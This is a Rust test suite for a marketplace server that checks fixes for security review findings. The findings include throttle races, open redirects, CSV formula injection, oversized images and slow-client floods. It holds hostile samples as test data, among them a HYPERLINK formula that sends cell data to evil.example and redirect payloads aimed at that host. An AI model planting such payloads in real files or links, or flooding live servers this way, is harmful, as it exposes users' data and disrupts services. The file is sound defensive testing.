//! The outside review's findings, each reproduced: hostile spreadsheets, password hashing on
//! demand, a raced and hijacked sign-in throttle, unbounded metrics labels, slow bodies, open
//! redirects, formulas in exports, non-JSON API errors and a preview holding the writer.

use crate::helpers::{spawn_app_with, TestApp, DEMO_PASSWORD};
use crate::on_both_backends;
use emall_server::tabular::hostile;
use reqwest::StatusCode;
use serde_json::{json, Value};
use std::io::{Read, Write};
use std::time::{Duration, Instant};

on_both_backends!(
    hostile_spreadsheets_are_refused_by_name_and_the_mall_stays_up,
    the_sign_in_throttle_cannot_be_raced_or_turned_on_the_owner,
    invitations_are_checked_before_any_password_is_hashed,
    sign_in_redirects_stay_on_this_site,
    every_api_error_is_json_in_the_callers_language,
    csv_exports_carry_no_live_formulas,
    money_and_text_inputs_are_bounded,
    a_person_sees_their_sessions_and_ends_the_others,
    an_image_declaring_a_vast_canvas_is_refused,
    a_large_preview_lets_other_writers_in_between_its_parts,
);

async fn import(
    app: &TestApp,
    client: &reqwest::Client,
    token: &str,
    body: Vec<u8>,
) -> (StatusCode, Value) {
    let r = client
        .post(app.url("/api/v1/offers/import?dry_run=true"))
        .header("x-csrf-token", token)
        .header("accept-language", "en")
        .body(body)
        .send()
        .await
        .expect("import");
    let status = r.status();
    (status, r.json().await.expect("a JSON answer"))
}

async fn hostile_spreadsheets_are_refused_by_name_and_the_mall_stays_up(app: TestApp) {
    let (supplier, token) = app.as_user("demo-supplier").await;
    let cases: [(&str, Vec<u8>, &str); 3] = [
        (
            "a cell at XFD1048576",
            hostile::far_corner(),
            "more than 10001 rows",
        ),
        (
            "200 MiB of sheet",
            hostile::bomb(200),
            "unpacks to more than 32 MB",
        ),
        (
            "a bomb at the upload limit",
            hostile::bomb(1_900),
            "unpacks to more than 32 MB",
        ),
    ];
    for (name, file, says) in cases {
        assert!(file.len() < 5 * 1024 * 1024, "{name}: {} bytes", file.len());
        let (status, body) = import(&app, &supplier, &token, file).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {body}");
        let message = body["error"]["fields"]["file"].as_str().unwrap_or_default();
        assert!(message.contains(says), "{name}: {body}");
        assert_eq!(
            app.get("/healthz").await.status(),
            200,
            "alive after {name}"
        );
    }
    // Only an admitted supplier imports at all.
    sqlx::query("UPDATE suppliers SET status = 'pending' WHERE id = (SELECT supplier_id FROM users WHERE username = 'demo-supplier')")
        .execute(app.db.pool())
        .await
        .unwrap();
    let (status, body) = import(&app, &supplier, &token, b"a,b\n1,2\n".to_vec()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(
        body.to_string().contains("once the supplier is admitted"),
        "{body}"
    );
}

async fn sign_in(
    app: &TestApp,
    client: &reqwest::Client,
    username: &str,
    password: &str,
) -> StatusCode {
    client
        .post(app.url("/api/v1/auth/login"))
        .json(&json!({"username": username, "password": password}))
        .send()
        .await
        .expect("login")
        .status()
}

async fn the_sign_in_throttle_cannot_be_raced_or_turned_on_the_owner(app: TestApp) {
    // The owner has signed in from this browser before: it carries a device cookie.
    let owner = crate::helpers::client();
    assert_eq!(
        sign_in(&app, &owner, "demo-buyer", DEMO_PASSWORD).await,
        200
    );
    // Forty wrong passwords at once, from a stranger.
    let attacker = crate::helpers::client();
    let attempts = (0..40).map(|i| {
        let (app, attacker) = (&app, attacker.clone());
        async move { sign_in(app, &attacker, "demo-buyer", &format!("wrong-{i}")).await }
    });
    let statuses = futures::future::join_all(attempts).await;
    let checked = statuses
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED)
        .count();
    let refused = statuses
        .iter()
        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
        .count();
    assert!(
        checked <= 5,
        "{checked} passwords checked against a limit of 5: {statuses:?}"
    );
    assert_eq!(checked + refused, 40, "{statuses:?}");
    // The stranger is held back, even with the right password...
    assert_eq!(
        sign_in(&app, &attacker, "demo-buyer", DEMO_PASSWORD).await,
        429
    );
    // ...but the owner at their usual browser is not, nor anyone else at the same address.
    assert_eq!(
        sign_in(&app, &owner, "demo-buyer", DEMO_PASSWORD).await,
        200
    );
    let colleague = crate::helpers::client();
    assert_eq!(
        sign_in(&app, &colleague, "demo-approver", DEMO_PASSWORD).await,
        200
    );
    // The count is in the database, for every node.
    let (attempts,): (i64,) =
        sqlx::query_as("SELECT attempts FROM throttles WHERE key = 'sign-in:user:demo-buyer'")
            .fetch_one(app.db.pool())
            .await
            .expect("a shared count");
    assert!(attempts >= 5);
}

async fn hashes(app: &TestApp) -> u64 {
    let text = app.get("/metrics").await.text().await.unwrap();
    text.lines()
        .find_map(|l| l.strip_prefix("emall_password_hashes_total "))
        .and_then(|n| n.trim().parse().ok())
        .expect("the hash counter")
}

async fn invitations_are_checked_before_any_password_is_hashed(app: TestApp) {
    let before = hashes(&app).await;
    let tries = (0..60).map(|i| {
        let app = &app;
        async move {
            app.client
                .post(app.url(&format!("/api/v1/invitations/{i:064x}/accept")))
                .json(&json!({"username": format!("stranger{i}"), "password": "Strong@Pass2026"}))
                .send()
                .await
                .expect("accept")
                .status()
        }
    });
    let statuses = futures::future::join_all(tries).await;
    assert!(
        statuses
            .iter()
            .all(|s| *s == StatusCode::NOT_FOUND || *s == StatusCode::TOO_MANY_REQUESTS),
        "{statuses:?}"
    );
    let answered = statuses
        .iter()
        .filter(|s| **s == StatusCode::NOT_FOUND)
        .count();
    assert!(
        answered <= 10,
        "guessing from one address slows down: {answered} answered"
    );
    assert_eq!(
        hashes(&app).await,
        before,
        "no hash for an invitation that does not exist"
    );
}

async fn sign_in_redirects_stay_on_this_site(app: TestApp) {
    for next in [
        "/\t/evil.example",
        "/\n/x",
        "//evil.example",
        "/\\evil.example",
        "https://evil.example",
        "/%0A/x",
    ] {
        let client = crate::helpers::client();
        let response = client
            .post(app.url("/login"))
            .form(&[
                ("username", "demo-buyer"),
                ("password", DEMO_PASSWORD),
                ("next", next),
            ])
            .send()
            .await
            .expect("login form");
        assert_eq!(response.status(), StatusCode::SEE_OTHER, "{next:?}");
        let location = response.headers()["location"].to_str().unwrap().to_string();
        assert!(
            location.starts_with('/') && !location.starts_with("//"),
            "{next:?} → {location:?}"
        );
        assert!(
            !location.contains("evil") && !location.contains('\t'),
            "{next:?} → {location:?}"
        );
    }
}

async fn every_api_error_is_json_in_the_callers_language(app: TestApp) {
    let (client, token) = app.as_user("demo-buyer").await;
    let cases: Vec<(&str, reqwest::RequestBuilder, u16)> = vec![
        (
            "malformed JSON",
            client
                .post(app.url("/api/v1/checkout"))
                .header("content-type", "application/json")
                .body("{"),
            400,
        ),
        (
            "a field of the wrong type",
            client
                .post(app.url("/api/v1/auth/login"))
                .json(&json!({"username": 7, "password": "x"})),
            400,
        ),
        (
            "no content type",
            client
                .post(app.url("/api/v1/auth/login"))
                .body(r#"{"username":"a","password":"b"}"#),
            415,
        ),
        (
            "a method the route lacks",
            client.delete(app.url("/api/v1/auth/me")),
            405,
        ),
        (
            "an id that is not a number",
            client.get(app.url("/api/v1/orders/abc")),
            400,
        ),
        (
            "no such operation",
            client.get(app.url("/api/v1/no-such-thing")),
            404,
        ),
    ];
    for (name, request, status) in cases {
        let response = request
            .header("x-csrf-token", &token)
            .header("accept-language", "en")
            .send()
            .await
            .expect(name);
        assert_eq!(response.status().as_u16(), status, "{name}");
        let kind = response
            .headers()
            .get("content-type")
            .map(|v| v.to_str().unwrap().to_string());
        assert!(
            kind.as_deref()
                .is_some_and(|k| k.starts_with("application/json")),
            "{name}: {kind:?}"
        );
        let body: Value = response.json().await.expect(name);
        let message = body["error"]["message"].as_str().unwrap_or_default();
        assert!(
            !message.is_empty() && message.is_ascii(),
            "{name}: English expected, got {body}"
        );
    }
    a_body_over_the_limit_is_refused_as_json(&app).await;
}

/// A body one byte over the 2 MB limit is refused (sent whole first: a client still sending
/// when the answer comes would see its connection closed).
async fn a_body_over_the_limit_is_refused_as_json(app: &TestApp) {
    let addr = app.address.trim_start_matches("http://").to_string();
    let answer = tokio::task::spawn_blocking(move || {
        let mut tcp = std::net::TcpStream::connect(addr).expect("connect");
        tcp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        tcp.write_all(b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nAccept-Language: en\r\nContent-Type: application/json\r\nContent-Length: 2097153\r\n\r\n")
            .unwrap();
        tcp.write_all(&vec![b' '; 2 * 1024 * 1024 + 1]).unwrap();
        let mut answer = vec![0u8; 4096];
        let n = tcp.read(&mut answer).unwrap_or(0);
        String::from_utf8_lossy(&answer[..n]).to_string()
    })
    .await
    .unwrap();
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(
        answer
            .to_ascii_lowercase()
            .contains("content-type: application/json"),
        "{answer}"
    );
}

async fn money_and_text_inputs_are_bounded(app: TestApp) {
    let (operator, ot) = app.as_user("demo-operator").await;
    let product = app
        .id("SELECT MIN(product_id) FROM offers WHERE status = 'on_sale'")
        .await;
    let closes = emall_store::clock::rfc3339(emall_store::clock::now() + 3600);
    let pool = |ceiling: &str| {
        json!({
            "product_id": product, "city": "310100", "title": "联合采购", "description": "",
            "delivery_terms": "5 个工作日", "min_total_quantity": 10,
            "ceiling_price": ceiling, "closes_at": closes, "validity_days": 365,
        })
    };
    for ceiling in ["92233720368547758.07", "100000000.01"] {
        let r =
            crate::helpers::post_json(&app, &operator, &ot, "/api/v1/pools", pool(ceiling)).await;
        assert_eq!(
            r.status(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "ceiling {ceiling}"
        );
        let body: Value = r.json().await.unwrap();
        assert!(
            body["error"]["fields"]["ceiling_price"]
                .as_str()
                .unwrap()
                .contains("1 亿元"),
            "{body}"
        );
    }
    // A supplier's listing: a price beyond the bound, and a reason of 1.5 MB.
    let (supplier, st) = app.as_user("demo-supplier").await;
    let offer = app
        .id("SELECT MIN(o.id) FROM offers o JOIN users u ON u.supplier_id = o.supplier_id WHERE u.username = 'demo-supplier' AND o.status = 'on_sale'")
        .await;
    let patch = |body: Value| {
        supplier
            .patch(app.url(&format!("/api/v1/offers/{offer}")))
            .header("x-csrf-token", &st)
            .json(&body)
            .send()
    };
    let r = patch(json!({"price_fen": 9_000_000_000_000_000i64, "reason": "调价"}))
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let r = patch(json!({"price_fen": 1000, "reason": "长".repeat(500_000)}))
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: Value = r.json().await.unwrap();
    assert_eq!(
        body["error"]["fields"]["reason"], "不能超过 2000 个字符。",
        "{body}"
    );
    let (longest,): (i64,) = sqlx::query_as(
        "SELECT CAST(COALESCE(MAX(LENGTH(reason)), 0) AS BIGINT) FROM offer_price_history",
    )
    .fetch_one(app.db.pool())
    .await
    .unwrap();
    assert!(
        longest <= 2_000,
        "a reason of {longest} characters was stored"
    );
}

async fn a_person_sees_their_sessions_and_ends_the_others(app: TestApp) {
    let (laptop, token) = app.as_user("demo-buyer").await;
    let (phone, _) = app.as_user("demo-buyer").await;
    let sessions: Vec<Value> = app.get_json(&laptop, "/api/v1/auth/sessions").await;
    assert_eq!(sessions.len(), 2, "{sessions:?}");
    assert_eq!(sessions.iter().filter(|s| s["current"] == true).count(), 1);
    // In the browser, without script: the home page leads to the list, a plain form ends
    // the others.
    let home = app.get_text(&laptop, "/buyer").await;
    assert!(home.contains(r#"href="/account/sessions""#));
    let page = app.get_text(&laptop, "/account/sessions").await;
    assert!(
        page.contains("当前会话") && page.contains(r#"id="end-others""#),
        "{page}"
    );
    let ended = laptop
        .post(app.url("/account/sessions/end-others"))
        .form(&[("csrf_token", token.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(ended.status(), StatusCode::SEE_OTHER);
    assert_eq!(ended.headers()["location"], "/account/sessions?ended=1");
    assert!(app
        .get_text(&laptop, "/account/sessions?ended=1")
        .await
        .contains("已结束 1 个会话"));
    let me = |c: &reqwest::Client| c.get(app.url("/api/v1/auth/me")).send();
    assert_eq!(
        me(&phone).await.unwrap().status(),
        StatusCode::UNAUTHORIZED,
        "the other session ended"
    );
    assert_eq!(
        me(&laptop).await.unwrap().status(),
        StatusCode::OK,
        "this one stays"
    );
    // A form without the token changes nothing; signing out with it ends this one.
    let forged = laptop
        .post(app.url("/logout"))
        .form(&[("x", "y")])
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status(), StatusCode::FORBIDDEN);
    let out = laptop
        .post(app.url("/logout"))
        .form(&[("csrf_token", token.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(out.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        me(&laptop).await.unwrap().status(),
        StatusCode::UNAUTHORIZED
    );
}

/// A PNG of a few dozen bytes that declares 100,000 × 3 pixels: every buyer's browser would
/// try to draw it.
async fn an_image_declaring_a_vast_canvas_is_refused(app: TestApp) {
    let (operator, token) = app.as_user("demo-operator").await;
    let product = app.id("SELECT MIN(id) FROM products").await;
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
    png.extend(100_000u32.to_be_bytes());
    png.extend(3u32.to_be_bytes());
    png.extend([8, 6, 0, 0, 0, 0, 0, 0, 0]);
    let r = operator
        .put(app.url(&format!("/api/v1/products/{product}/image")))
        .header("x-csrf-token", &token)
        .header("accept-language", "en")
        .body(png)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: Value = r.json().await.unwrap();
    assert!(
        body["error"]["fields"]["image"]
            .as_str()
            .unwrap()
            .contains("6000 pixels"),
        "{body}"
    );
}

async fn csv_exports_carry_no_live_formulas(app: TestApp) {
    sqlx::query("UPDATE suppliers SET name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")' || CAST(id AS TEXT)")
        .execute(app.db.pool())
        .await
        .unwrap();
    let (regulator, token) = app.as_user("demo-regulator").await;
    let refreshed = regulator
        .post(app.url("/api/v1/dashboard/refresh"))
        .header("x-csrf-token", &token)
        .send()
        .await
        .unwrap();
    assert_eq!(refreshed.status(), 200);
    let csv = regulator
        .get(app.url("/api/v1/dashboard/export?table=suppliers&format=csv"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        csv.contains("HYPERLINK"),
        "the names are exported: {}",
        &csv[..csv.len().min(600)]
    );
    for line in csv.trim_start_matches('\u{feff}').lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '@']), "a live formula: {line}");
        }
    }
}

/// `/metrics` is for the operator's scraper: with a token configured, a request without it
/// finds nothing there, and the labels stay few whatever methods strangers send.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_are_for_the_scraper_alone_and_stay_small() {
    let app = spawn_app_with(emall_store::db::Backend::Sqlite, |s| {
        s.metrics_token = "scrape-2026".into();
    })
    .await;
    assert_eq!(app.get("/metrics").await.status(), StatusCode::NOT_FOUND);
    let wrong = app
        .client
        .get(app.url("/metrics"))
        .bearer_auth("scrape-2027")
        .send()
        .await
        .unwrap();
    assert_eq!(wrong.status(), StatusCode::NOT_FOUND);
    for i in 0..200 {
        let method = reqwest::Method::from_bytes(format!("X{i:0>2000}").as_bytes()).unwrap();
        let _ = app
            .client
            .request(method, app.url("/api/v1/orders"))
            .send()
            .await;
    }
    let metrics = app
        .client
        .get(app.url("/metrics"))
        .bearer_auth("scrape-2026")
        .send()
        .await
        .unwrap();
    assert_eq!(metrics.status(), StatusCode::OK);
    let text = metrics.text().await.unwrap();
    assert!(text.len() < 20_000, "{} bytes of metrics", text.len());
    assert!(text.contains("method=\"other\""), "{text}");
}

/// Slow clients after the hand-off to the application: a body that never comes, one that
/// trickles, and a client that holds many connections.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_bodies_and_connection_floods_are_cut_off() {
    let app = spawn_app_with(emall_store::db::Backend::Sqlite, |s| {
        s.idle_timeout_secs = 2;
        s.max_connections_per_address = 20;
    })
    .await;
    let addr = app.address.trim_start_matches("http://").to_string();
    let run = move || {
        let addr = addr.clone();
        let connect = move || {
            let tcp = std::net::TcpStream::connect(&addr).expect("connect");
            tcp.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
            tcp
        };
        // A head announcing 100 bytes, then silence.
        let started = Instant::now();
        let mut silent = connect();
        silent
            .write_all(b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n")
            .unwrap();
        let mut answer = Vec::new();
        let _ = silent.read_to_end(&mut answer);
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "held {:?}",
            started.elapsed()
        );
        assert!(
            String::from_utf8_lossy(&answer).starts_with("HTTP/1.1 408"),
            "{}",
            String::from_utf8_lossy(&answer)
        );
        // A body trickled a byte every half second.
        let started = Instant::now();
        let mut trickle = connect();
        trickle
            .write_all(b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n")
            .unwrap();
        for _ in 0..40 {
            if trickle.write_all(b" ").is_err() {
                break;
            }
            std::thread::sleep(Duration::from_millis(500));
            if started.elapsed() > Duration::from_secs(15) {
                break;
            }
        }
        let mut answer = Vec::new();
        let _ = trickle.read_to_end(&mut answer);
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "held {:?}",
            started.elapsed()
        );
        // Twenty connections from one address are its share; the next is closed at once.
        let held: Vec<_> = (0..20).map(|_| connect()).collect();
        std::thread::sleep(Duration::from_millis(200));
        let mut extra = connect();
        let _ = extra.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n");
        let mut buf = [0u8; 64];
        let n = extra.read(&mut buf).unwrap_or(0);
        assert_eq!(n, 0, "the connection over the share is closed");
        drop(held);
    };
    tokio::task::spawn_blocking(run).await.unwrap();
}

/// Finding 11: a dry run of a large import held SQLite's one writer for the whole file, so
/// every sign-in and cart write waited behind it. It now checks the rows in parts of 250,
/// each in its own rolled-back transaction, and other writers take their turns in between:
/// writes keep completing while the preview runs (the order of events, not their speed).
async fn a_large_preview_lets_other_writers_in_between_its_parts(app: TestApp) {
    use emall_domain::import::{ProductRef, Row};
    use emall_domain::Fen;
    use std::sync::atomic::{AtomicBool, Ordering};
    let supplier = app
        .id("SELECT supplier_id FROM users WHERE username = 'demo-supplier'")
        .await;
    let products: Vec<(i64,)> = sqlx::query_as("SELECT id FROM products ORDER BY id")
        .fetch_all(app.db.pool())
        .await
        .unwrap();
    let rows: Vec<Row> = (0..5_000)
        .map(|i| Row {
            line: i + 2,
            product: ProductRef::Id(products[i % products.len()].0),
            price: Fen(10_000 + i as i64),
            stock: 10,
            delivery_days: 3,
            cities: vec!["310100".into()],
            unit: None,
            reason: "导入调价".into(),
        })
        .collect();
    let listings = format!(
        "SELECT CAST(COUNT(*) * 1000000007 + COALESCE(SUM(price_fen + stock), 0) AS BIGINT) FROM offers WHERE supplier_id = {supplier}"
    );
    let before = app.id(&listings).await;
    let done = AtomicBool::new(false);
    let writes = async {
        let mut finished = Vec::new();
        while !done.load(Ordering::Acquire) {
            let mut tx = app.db.begin_write().await.unwrap();
            sqlx::query("UPDATE regions SET name = name WHERE code = '310100'")
                .execute(&mut *tx)
                .await
                .unwrap();
            tx.commit().await.unwrap();
            finished.push(Instant::now());
            tokio::task::yield_now().await;
        }
        finished
    };
    let preview = async {
        // The writer loop has the writer first.
        tokio::time::sleep(Duration::from_millis(20)).await;
        let began = Instant::now();
        let (outcomes, refusals) = emall_store::imports::run(&app.db, supplier, &rows, false)
            .await
            .expect("preview");
        let ended = Instant::now();
        done.store(true, Ordering::Release);
        // Every row checked: a change for each product, the repeats refused by line.
        assert_eq!(outcomes.len() + refusals.len(), rows.len());
        (began, ended)
    };
    let (finished, (began, ended)) = futures::join!(writes, preview);
    let during = finished
        .iter()
        .filter(|t| **t > began && **t < ended)
        .count();
    assert!(
        during >= 5,
        "other writes completed while the preview's {} parts ran: {during}",
        rows.len() / 250
    );
    // Nothing of the preview was kept.
    assert_eq!(
        app.id(&listings).await,
        before,
        "the supplier's offers as they were"
    );
}
